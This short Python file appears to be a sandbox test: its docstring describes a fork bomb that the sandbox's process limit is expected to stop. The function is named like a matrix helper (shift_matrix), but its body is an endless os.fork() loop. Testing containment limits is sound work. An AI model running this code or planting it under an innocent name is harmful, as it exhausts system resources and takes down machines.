"""A fork bomb inside an exercise: RLIMIT_NPROC of the sandbox's own uid stops it; all of it is killed."""
import os
import time


def shift_matrix(k, d_model, base=10000.0):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
